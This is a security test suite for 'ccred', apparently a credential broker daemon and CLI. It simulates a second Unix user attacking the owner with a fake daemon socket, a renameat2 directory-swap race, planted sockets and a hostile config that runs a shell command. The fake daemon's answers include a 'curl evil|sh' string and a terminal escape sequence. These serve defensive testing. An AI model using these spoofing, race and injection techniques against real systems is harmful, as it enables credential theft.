import assert from 'node:assert/strict'
import { execFileSync, spawn, type ChildProcess } from 'node:child_process'
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { connect, createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { openRuntimeDir } from '../../src/rendezvous/runtime-dir.js'
import { isAlive, Sandbox, waitFor, sandboxesCleanedUpAfterAll } from '../helpers/sandbox.js'
import { loginRuntimeDir } from '../../src/config/paths.js'

/**
 * Issue 13's attacks, tried as an attacker would: a second Unix user against the
 * owner's real daemon and CLI. The owner is whoever runs the tests (root in CI);
 * the attacker is a user made with useradd, so these need root and skip otherwise.
 */
const ATTACKER = 'ccredattacker'
const ATTACKER_TOKEN = 'ATTACKER-TOKEN-4242'

interface Attacker { uid: number; gid: number }

function makeAttacker(): Attacker | string {
  if (process.platform !== 'linux') return 'needs Linux (a second user, /proc)'
  if (process.getuid?.() !== 0) return 'needs root to create the second (attacker) user with useradd'
  try {
    execFileSync('id', ['-u', ATTACKER], { stdio: 'ignore' })
  } catch {
    try {
      execFileSync('useradd', ['--system', '--no-create-home', '--shell', '/usr/sbin/nologin', ATTACKER], { stdio: 'ignore' })
    } catch (error) {
      return `useradd ${ATTACKER} failed: ${(error as Error).message}`
    }
  }
  const uid = Number(execFileSync('id', ['-u', ATTACKER], { encoding: 'utf8' }).trim())
  const gid = Number(execFileSync('id', ['-g', ATTACKER], { encoding: 'utf8' }).trim())
  return { uid, gid }
}

const attackerOrReason = makeAttacker()
const attacker = typeof attackerOrReason === 'string' ? undefined : attackerOrReason
const needsAttacker = attacker === undefined ? { skip: attackerOrReason as string } : {}

/** A socket that answers every request as a daemon would, with the attacker's values; logs what it was asked. */
const FAKE_DAEMON = `
const net = require('node:net'), fs = require('node:fs')
const [socket, log] = process.argv.slice(2)
try { fs.unlinkSync(socket) } catch {}
const answer = (path) => path === '/v1/health' ? { pid: 4242, version: '0.0.0', startedAt: '2020-01-01T00:00:00Z', socket: '\\u001b]0;pwned\\u0007', configPath: 'x' }
  : path === '/v1/credential' ? { value: '${ATTACKER_TOKEN}', header: 'Authorization', profile: 'demo' }
  : path === '/v1/status' ? { daemon: { running: true, pid: 4242, version: '0.0.0', socket: 'x', uptimeMs: 1 }, config: { path: 'x', fromFile: true }, store: { description: 'x' }, audit: null, profiles: [{ profile: 'RUN: curl evil|sh', source: '${ATTACKER_TOKEN}', header: 'x', cached: true, hits: 0, fetches: 0, consecutiveFailures: 0 }] }
  : {}
net.createServer((c) => {
  c.once('data', (d) => {
    const line = String(d).split('\\r\\n')[0]
    fs.appendFileSync(log, line + '\\n')
    const body = JSON.stringify(answer(line.split(' ')[1]))
    c.end('HTTP/1.1 200 OK\\r\\nContent-Type: application/json\\r\\nContent-Length: ' + Buffer.byteLength(body) + '\\r\\nConnection: close\\r\\n\\r\\n' + body)
  })
}).listen(socket, () => { fs.chmodSync(socket, 0o777); process.stdout.write('ready\\n') })
`

/** renameat2(RENAME_EXCHANGE) in a loop until the stop file appears (falls back to two renames where the call is missing). */
const EXCHANGE_LOOP = `
import ctypes, os, sys
a, b, stop = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
exchange = getattr(libc, 'renameat2', None)
n = 0
while not os.path.exists(stop):
    if exchange is not None:
        exchange(-100, a.encode(), -100, b.encode(), 2)
    else:
        os.rename(a, a + '.t'); os.rename(b, a); os.rename(a + '.t', b)
    n += 1
print(n)
`

const sandboxes = sandboxesCleanedUpAfterAll()
const children: ChildProcess[] = []
const worlds: string[] = []
function sandbox(extraEnv: Record<string, string> = {}): Sandbox {
  const box = new Sandbox(extraEnv)
  sandboxes.push(box)
  return box
}
after(async () => {
  for (const child of children) child.kill('SIGKILL')
  for (const world of worlds) rmSync(world, { recursive: true, force: true })
})

/** A directory both users can reach (0755, the owner's), for the attacker's files and directories. */
function sharedWorld(): string {
  const world = mkdtempSync(join(tmpdir(), 'ccr-atk-'))
  chmodSync(world, 0o755)
  worlds.push(world)
  writeFileSync(join(world, 'fake-daemon.cjs'), FAKE_DAEMON, { mode: 0o644 })
  writeFileSync(join(world, 'exchange.py'), EXCHANGE_LOOP, { mode: 0o644 })
  return world
}

function asAttacker(command: string, args: string[]): ChildProcess {
  const child = spawn(command, args, { uid: attacker!.uid, gid: attacker!.gid, stdio: ['ignore', 'pipe', 'pipe'] })
  children.push(child)
  return child
}

function attackerMkdir(path: string, mode: number): void {
  mkdirSync(path, { mode })
  chmodSync(path, mode)
  chownSync(path, attacker!.uid, attacker!.gid)
}

/** The attacker's fake daemon listening at `socket`; resolves once it listens. */
async function fakeDaemon(socket: string, log: string): Promise<void> {
  writeFileSync(log, '', { mode: 0o666 })
  chmodSync(log, 0o666)
  const child = asAttacker(process.execPath, [join(join(log, '..'), 'fake-daemon.cjs'), socket, log])
  await new Promise<void>((resolve, reject) => {
    child.stdout!.once('data', () => resolve())
    child.once('exit', (code) => reject(new Error(`fake daemon exited (${code})`)))
  })
}

/** The sandbox's env for a runtime dir under XDG_RUNTIME_DIR instead of CCRED_RUNTIME_DIR. */
function xdgRuntime(dir: string): Record<string, string | undefined> {
  return { CCRED_RUNTIME_DIR: undefined, XDG_RUNTIME_DIR: dir }
}

describe('trust boundary: a second user attacks the owner\'s ccred', () => {
  before(() => {
    if (attacker === undefined) process.stderr.write(`# trust-boundary: attacker tests skip: ${attackerOrReason as string}\n`)
  })

  it('a 0777 XDG_RUNTIME_DIR is refused: no daemon, no socket there, get answers in-process and says why', needsAttacker, async () => {
    const world = sharedWorld()
    const open = join(world, 'open')
    attackerMkdir(open, 0o777)
    const box = sandbox()
    const got = await box.run(['get', 'demo'], { env: xdgRuntime(open) })
    assert.equal(got.code, 0, got.stderr)
    assert.match(got.stdout, /^ccred-demo-[0-9a-f]{32}\n$/)
    assert.match(got.stderr, new RegExp(`runtime directory ${open}/ccred lies inside ${open}, which belongs to uid ${attacker!.uid}`))
    assert.deepEqual(readdirSync(open), [], 'nothing created in the attacker\'s directory')
    const start = await box.run(['daemon', 'start'], { env: xdgRuntime(open) })
    assert.equal(start.code, 11)
    assert.match(start.stderr, /refusing to use it \[ERR_DAEMON\] — set CCRED_RUNTIME_DIR/)
    // With no ccred/ there yet, the commands that only ask the daemon must not say "not running;
    // get starts it" (get would refuse to): they name the unsafe directory too.
    for (const args of [['status'], ['daemon', 'status']]) {
      const asked = await box.run(args, { env: xdgRuntime(open) })
      assert.equal(asked.code, 11, `${args.join(' ')}: ${asked.stdout}${asked.stderr}`)
      assert.equal(asked.stdout, '')
      assert.match(asked.stderr, new RegExp(`runtime directory ${open}/ccred lies inside ${open}.*\\[ERR_DAEMON\\]`))
    }
    assert.deepEqual(readdirSync(open), [], 'still nothing created there')
  })

  it('rename-swap race: the attacker exchanges ccred/ with its own directory in a loop; no get prints its token', needsAttacker, async () => {
    const world = sharedWorld()
    const open = join(world, 'open')
    attackerMkdir(open, 0o777)
    const log = join(world, 'asked.log')
    for (const name of ['ccred', 'evil']) attackerMkdir(join(open, name), 0o700)
    await fakeDaemon(join(open, 'ccred', 'ccred.sock'), log)
    await fakeDaemon(join(open, 'evil', 'ccred.sock'), log)
    const swapper = asAttacker('python3', [join(world, 'exchange.py'), join(open, 'ccred'), join(open, 'evil'), join(world, 'stop')])
    let swaps = ''
    swapper.stdout!.on('data', (chunk: Buffer) => { swaps += String(chunk) })
    const box = sandbox()
    const results = []
    for (let i = 0; i < 30; i++) results.push(await box.run(['get', 'demo'], { env: xdgRuntime(open), distinctCaller: true }))
    writeFileSync(join(world, 'stop'), '')
    await new Promise((resolve) => swapper.once('exit', resolve))
    assert.ok(Number(swaps.trim()) > 0, `the attacker swapped (${swaps.trim()} exchanges)`)
    for (const result of results) {
      assert.equal(result.code, 0, result.stderr)
      assert.ok(!result.stdout.includes(ATTACKER_TOKEN) && !result.stderr.includes(ATTACKER_TOKEN), 'the attacker\'s token was printed')
      assert.match(result.stdout, /^ccred-demo-[0-9a-f]{32}\n$/)
    }
    assert.equal(readFileSync(log, 'utf8'), '', 'the fake daemon was never asked')
  })

  it('a fake socket in a directory the attacker pre-created: status, daemon status/stop, set and doctor all refuse it and never ask it', needsAttacker, async () => {
    const world = sharedWorld()
    // A sticky, world-writable parent (like /tmp): the attacker may create ccred/ in it first.
    const sticky = join(world, 'sticky')
    mkdirSync(sticky)
    chmodSync(sticky, 0o1777)
    const planted = join(sticky, 'ccred')
    attackerMkdir(planted, 0o700)
    const log = join(world, 'asked.log')
    await fakeDaemon(join(planted, 'ccred.sock'), log)
    const box = sandbox()
    box.writeConfig('[broker]\nstore = "file"\n\n[profiles.k]\nsource = "static"\nvalue = "keychain:k"\n')
    const env = xdgRuntime(sticky)
    const refusal = new RegExp(`runtime directory ${planted} belongs to uid ${attacker!.uid}, not to you \\(uid 0\\); refusing to use it`)
    for (const args of [['status'], ['status', '--json'], ['daemon', 'status'], ['daemon', 'stop'], ['get', 'k']]) {
      const result = await box.run(args, { env })
      assert.match(result.stderr, refusal, `ccred ${args.join(' ')}: ${result.stderr}`)
      assert.ok(!/4242|pwned|RUN: curl/.test(result.stdout + result.stderr), `ccred ${args.join(' ')} showed the attacker's answer`)
      if (args[0] !== 'get') assert.equal(result.code, 11, `ccred ${args.join(' ')} exits ERR_DAEMON`)
    }
    const set = await box.run(['set', 'k'], { env, input: 'sk-owner-secret\n' })
    assert.equal(set.code, 0, set.stderr)
    assert.match(set.stderr, refusal)
    const doctor = await box.run(['doctor'], { env })
    assert.match(doctor.stdout + doctor.stderr, refusal)
    assert.doesNotMatch(doctor.stdout, /running, version/)
    assert.equal(readFileSync(log, 'utf8'), '', 'the fake daemon was never asked')
  })

  it('a world-writable config directory: the attacker\'s config is refused at reload, the last good one serves, doctor flags it', needsAttacker, async () => {
    const world = sharedWorld()
    const box = sandbox({ CC_OWNER_KEY: 'sk-owner-good' })
    box.writeConfig('[profiles.s]\nsource = "static"\nvalue = "env:CC_OWNER_KEY"\n')
    for (const dir of [box.root, box.home, join(box.home, '.config')]) chmodSync(dir, 0o755)
    const first = await box.run(['get', 's'])
    assert.equal(first.code, 0, first.stderr)
    assert.equal(first.stdout, 'sk-owner-good\n')
    const configDir = join(box.home, '.config', 'ccred')
    chmodSync(configDir, 0o777)
    const pwned = join(world, 'pwned')
    const evil = `[profiles.s]\nsource = "exec"\ncommand = ["/bin/sh", "-c", "touch ${pwned}; echo sk-attacker"]\n`
    const mover = asAttacker('/bin/sh', ['-c', `printf '%s' "$1" > "$2/new.toml" && mv -f "$2/new.toml" "$2/config.toml"`, 'sh', evil, configDir])
    assert.equal(await new Promise((resolve) => mover.once('exit', resolve)), 0)
    assert.equal(lstatSync(box.configPath).uid, attacker!.uid, 'the attacker\'s file is in place')
    const again = await box.run(['get', 's'], { distinctCaller: true })
    assert.equal(again.code, 0, again.stderr)
    assert.equal(again.stdout, 'sk-owner-good\n', 'the last good config serves')
    assert.ok(!existsSync(pwned), 'the attacker\'s command never ran')
    const status = JSON.parse((await box.run(['status', '--json'])).stdout) as { config: { error?: { code: string; message: string; hint?: string } } }
    assert.equal(status.config.error?.code, 'ERR_CONFIG')
    assert.match(status.config.error!.message, /belongs to uid \d+, not to you|writable by group or others/)
    const doctor = await box.run(['doctor'])
    assert.match(doctor.stdout, /config.*(belongs to uid|writable by group or others)/)
    assert.ok(!existsSync(pwned))
  })
})

describe('trust boundary: the owner\'s own files', () => {
  it('a config directory others can write is refused with the chmod go-w fix; so is an oversized config, before it is read', async () => {
    const box = sandbox({ CC_OWNER_KEY: 'sk-owner-good' })
    box.writeConfig('[profiles.s]\nsource = "static"\nvalue = "env:CC_OWNER_KEY"\n')
    const configDir = join(box.home, '.config', 'ccred')
    chmodSync(configDir, 0o777)
    const refused = await box.run(['get', 's'], { env: { CCRED_NO_DAEMON: '1' } })
    assert.equal(refused.code, 3)
    assert.equal(refused.stdout, '')
    assert.match(refused.stderr, new RegExp(`config ${configDir} is writable by group or others \\(mode 777\\); refusing to use it \\[ERR_CONFIG\\] — run: chmod go-w ${configDir}`))
    chmodSync(configDir, 0o700)
    chmodSync(box.configPath, 0o666)
    const fileRefused = await box.run(['get', 's'], { env: { CCRED_NO_DAEMON: '1' } })
    assert.match(fileRefused.stderr, new RegExp(`run: chmod go-w ${box.configPath}`))
    chmodSync(box.configPath, 0o600)
    writeFileSync(box.configPath, `[profiles.s]\nsource = "static"\nvalue = "env:CC_OWNER_KEY"\ndescription = "${'x'.repeat(2 * 1024 * 1024)}"\n`)
    const big = await box.run(['get', 's'])
    assert.equal(big.code, 3)
    assert.match(big.stderr, /is \d+ bytes, over the 1 MiB limit; refusing to read it \[ERR_CONFIG\]/)
  })

  it('plain-http Vault to a non-loopback host is refused at config time unless the table says allow_insecure_http', async () => {
    const box = sandbox()
    const profile = (extra: string) => `[profiles.v]\nsource = "vault"\n[profiles.v.vault]\naddress = "http://vault.example.com:8200"\npath = "secret/x"\nfield = "k"\n${extra}`
    box.writeConfig(profile(''))
    const refused = await box.run(['get', 'v'], { env: { CCRED_NO_DAEMON: '1' } })
    assert.equal(refused.code, 3, refused.stderr)
    assert.match(refused.stderr, /plain http to vault\.example\.com would send the Vault token unencrypted; use https:\/\/, or set allow_insecure_http = true/)
    box.writeConfig(profile('allow_insecure_http = true\n'))
    const profiles = await box.run(['profiles'], { env: { CCRED_NO_DAEMON: '1' } })
    assert.doesNotMatch(profiles.stdout + profiles.stderr, /plain http/)
    box.writeConfig(profile('').replace('vault.example.com', '127.0.0.1'))
    const loopback = await box.run(['profiles'], { env: { CCRED_NO_DAEMON: '1' } })
    assert.doesNotMatch(loopback.stdout + loopback.stderr, /plain http/)
    // No address in the config: VAULT_ADDR from the environment is held to the same rule.
    box.writeConfig('[profiles.v]\nsource = "vault"\n[profiles.v.vault]\npath = "secret/x"\nfield = "k"\n')
    const fromEnv = await box.run(['get', 'v'], { env: { CCRED_NO_DAEMON: '1', VAULT_ADDR: 'http://vault.example.com:8200', VAULT_TOKEN: 'hvs.not-sent' } })
    assert.equal(fromEnv.code, 3, fromEnv.stderr)
    assert.match(fromEnv.stderr, /VAULT_ADDR: plain http to vault\.example\.com would send the Vault token unencrypted/)
  })

  it('without XDG_RUNTIME_DIR the runtime directory is private under the home, not /tmp/ccred-<uid>', { skip: loginRuntimeDir(process.platform) !== undefined && 'logind made /run/user/<uid> here: the runtime directory is there, and it is the real user\'s' }, async () => {
    const box = sandbox()
    const env = { CCRED_RUNTIME_DIR: undefined, XDG_RUNTIME_DIR: undefined, XDG_CACHE_HOME: undefined }
    const got = await box.run(['get', 'demo'], { env })
    assert.equal(got.code, 0, got.stderr)
    assert.equal(got.stderr, '')
    const dir = join(box.home, '.cache', 'ccred', 'run')
    assert.equal(lstatSync(dir).mode & 0o777, 0o700)
    assert.ok(lstatSync(join(dir, 'ccred.sock')).isSocket())
    assert.equal((await box.run(['daemon', 'stop'], { env })).code, 0)
  })

  it('a daemon.pid planted as a symlink to a file of the owner\'s is replaced, not followed', async () => {
    const box = sandbox()
    const victim = box.file('victim.txt')
    writeFileSync(victim, 'precious\n')
    mkdirSync(box.runtimeDir, { mode: 0o700 })
    symlinkSync(victim, join(box.runtimeDir, 'daemon.pid'))
    symlinkSync(victim, join(box.runtimeDir, 'daemon.lock'))
    const got = await box.run(['get', 'demo'])
    assert.equal(got.code, 0, got.stderr)
    assert.equal(got.stderr, '')
    assert.equal(readFileSync(victim, 'utf8'), 'precious\n')
    assert.ok(!lstatSync(join(box.runtimeDir, 'daemon.pid')).isSymbolicLink())
    assert.ok(isAlive(box.daemonPid()!))
  })

  it('a stale daemon.lock naming a live, unrelated pid does not stop the daemon: get is served by one, without the fallback wait', async () => {
    for (const content of [`${process.pid} 1\n`, `${process.pid}\n`]) {
      const box = sandbox()
      mkdirSync(box.runtimeDir, { mode: 0o700 })
      writeFileSync(join(box.runtimeDir, 'daemon.lock'), content, { mode: 0o600 })
      const got = await box.run(['get', 'demo'])
      assert.equal(got.code, 0, got.stderr)
      assert.equal(got.stderr, '', 'no "fetching in this process" warning')
      const pid = box.daemonPid()
      assert.ok(pid !== undefined && pid !== process.pid && isAlive(pid), 'a daemon serves')
      assert.match(readFileSync(join(box.runtimeDir, 'daemon.lock'), 'utf8'), new RegExp(`^${pid} \\d+\\n$`), 'the daemon holds the lock with its start time')
    }
  })

  it('runtime directory deleted: still one daemon, and nobody unlinks the live daemon\'s socket, lock or pid file', async () => {
    const box = sandbox()
    const first = await box.run(['get', 'demo'])
    assert.equal(first.code, 0, first.stderr)
    const firstPid = box.daemonPid()!
    rmSync(box.runtimeDir, { recursive: true, force: true })
    const again = await box.run(['get', 'demo'], { distinctCaller: true, timeoutMs: 15_000 })
    assert.equal(again.code, 0, again.stderr)
    assert.equal(again.stderr, '', 'served by a daemon, not in-process')
    // The old daemon either took the lock again or saw the new one and left: wait for one to remain.
    await waitFor(() => box.daemonProcesses().length === 1, 'one daemon left', 10_000)
    const [survivor] = box.daemonProcesses()
    assert.equal(box.daemonPid(), survivor, 'the pid file names the live daemon')
    for (const name of ['ccred.sock', 'daemon.lock', 'daemon.pid']) assert.ok(existsSync(join(box.runtimeDir, name)), `${name} is there`)
    const third = await box.run(['get', 'demo'], { distinctCaller: true })
    assert.equal(third.code, 0, third.stderr)
    assert.equal(third.stderr, '')
    if (survivor !== firstPid) assert.ok(!isAlive(firstPid), 'the orphan left')
  })

  it('the pinned directory: a request goes to the directory that was checked, even if it is swapped afterwards', { skip: process.platform === 'linux' ? false : 'pinning through /proc/self/fd is Linux only' }, async () => {
    const world = mkdtempSync(join(tmpdir(), 'ccr-pin-'))
    worlds.push(world)
    const checked = join(world, 'run')
    mkdirSync(checked, { mode: 0o700 })
    const servers = [] as Server[]
    const serve = (dir: string, answer: string) => new Promise<void>((resolve) => {
      const server = createServer((conn) => conn.end(answer))
      servers.push(server)
      server.listen(join(dir, 'ccred.sock'), resolve)
    })
    await serve(checked, 'checked')
    const pinned = openRuntimeDir(checked)
    try {
      // The swap: the checked directory moves away and another, with its own socket, takes its name.
      renameSync(checked, `${checked}.moved`)
      mkdirSync(checked, { mode: 0o700 })
      await serve(checked, 'swapped-in')
      const answer = await new Promise<string>((resolve, reject) => {
        const conn = connect(pinned.file('ccred.sock'))
        let text = ''
        conn.on('data', (chunk) => { text += String(chunk) })
        conn.on('end', () => resolve(text))
        conn.on('error', reject)
      })
      assert.equal(answer, 'checked')
    } finally {
      pinned.close()
      for (const server of servers) server.close()
    }
  })
})

